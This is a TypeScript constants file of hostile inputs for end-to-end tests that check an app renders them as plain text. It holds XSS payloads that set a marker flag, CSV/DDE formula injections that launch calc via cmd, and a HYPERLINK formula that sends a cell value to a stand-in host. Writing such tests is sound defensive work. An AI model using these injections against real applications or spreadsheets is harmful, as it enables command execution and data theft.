/**
 * Texts that must be shown as plain text everywhere. Constants only, so that end-to-end tests can import them. A script
 * in any of them sets `window.hostilCorrio` when it runs.
 */

/** Property of `window` that must stay undefined. */
export const HOSTILE_MARK = 'hostilCorrio';

const LONG_WORD_LENGTH = 2000;

export const HOSTILE = {
  markup: `<img src=x onerror="window.${HOSTILE_MARK}=true">`,
  script: `</td><script>window.${HOSTILE_MARK}=true</script>`,
  link: `javascript:window.${HOSTILE_MARK}=true`,
  formula: '=HYPERLINK("https://malo.test?d="&A1,"Ver")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  longWord: 'Supercalifragilístico'.repeat(LONG_WORD_LENGTH).slice(0, LONG_WORD_LENGTH),
  rightToLeft: 'مرحبا \u202Etxet desrever\u202C שלום',
  emoji: '🧉👩🏽‍🌾🇦🇷',
} as const;

/** Email of the hostile client: valid, so that its detail opens, the start of a formula, and wider than any column. */
export const HOSTILE_EMAIL = '=hostil-con-un-nombre-que-no-entra-en-ninguna-columna@correo.test';
